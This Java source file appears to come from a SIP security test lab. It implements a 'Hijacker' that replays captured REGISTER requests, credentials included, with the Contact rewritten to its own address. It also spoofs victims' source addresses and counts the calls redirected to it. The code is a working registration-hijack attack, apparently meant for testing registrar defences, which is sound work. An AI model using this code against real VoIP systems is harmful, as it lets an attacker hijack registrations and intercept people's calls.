package org.ringfence.lab.attack;

import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.locks.LockSupport;
import org.ringfence.lab.peer.PeerFailure;
import org.ringfence.sip.message.CSeq;
import org.ringfence.sip.message.HeaderName;
import org.ringfence.sip.message.Method;
import org.ringfence.sip.message.SipRequest;

/**
 * Somebody who has read the REGISTERs of others, credentials and all, and sends them again with his
 * own contact: from his own address, and with theirs. He counts the calls that come of it.
 */
final class Hijacker implements AutoCloseable {
  private static final byte[] OWN = {127, 99, 0, 1};

  private final SpoofedUdp udp;
  private final DatagramSocket socket;
  private final InetSocketAddress target;
  private final List<HonestPhone> victims;
  private final int ratePerSecond;
  private final AtomicLong sent = new AtomicLong();
  private final AtomicLong calls = new AtomicLong();
  private final Thread thread;

  /** Begins at once. */
  Hijacker(InetSocketAddress target, List<HonestPhone> victims, int ratePerSecond) {
    this.target = target;
    this.victims = List.copyOf(victims);
    this.ratePerSecond = ratePerSecond;
    try {
      udp = new SpoofedUdp();
      socket = new DatagramSocket(new InetSocketAddress(InetAddress.getByAddress(OWN), 0));
    } catch (IOException e) {
      throw new PeerFailure("nothing can be forged here", e);
    }
    Thread.ofVirtual().start(this::listen);
    thread = Thread.ofPlatform().daemon().name("hijacker").start(this::run);
  }

  long sent() {
    return sent.get();
  }

  /** Calls that came to him. */
  long calls() {
    return calls.get();
  }

  private void run() {
    InetSocketAddress own = (InetSocketAddress) socket.getLocalSocketAddress();
    try {
      for (int i = 0; !socket.isClosed(); i++) {
        HonestPhone victim = victims.get(i / 2 % victims.size());
        SipRequest seen = victim.lastRegister();
        if (seen != null) {
          byte[] again = changed(seen, own, i).toBytes();
          udp.send(i % 2 == 0 ? own : victim.address(), target, again);
          sent.incrementAndGet();
        }
        LockSupport.parkNanos(1_000_000_000L / ratePerSecond);
      }
    } catch (IOException e) {
      throw new PeerFailure("the hijacker cannot send", e);
    }
  }

  private static SipRequest changed(SipRequest seen, InetSocketAddress own, int number) {
    String here = own.getAddress().getHostAddress() + ":" + own.getPort();
    return seen.with()
        .set(HeaderName.VIA, "SIP/2.0/UDP " + here + ";branch=z9hG4bKhijack" + number + ";rport")
        .set(HeaderName.CSEQ, new CSeq(seen.cseq().number() + 1 + number, Method.REGISTER))
        .set(HeaderName.CONTACT, "<sip:" + seen.from().uri().user() + "@" + here + ">")
        .build();
  }

  private void listen() {
    DatagramPacket packet = new DatagramPacket(new byte[4_096], 4_096);
    while (!socket.isClosed()) {
      try {
        packet.setLength(4_096);
        socket.receive(packet);
        String text =
            new String(packet.getData(), 0, packet.getLength(), StandardCharsets.US_ASCII);
        if (text.startsWith("INVITE ")) calls.incrementAndGet();
      } catch (IOException closed) {
        // The loop sees it.
      }
    }
  }

  @Override
  public void close() {
    socket.close();
    try {
      thread.join();
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
    udp.close();
  }
}
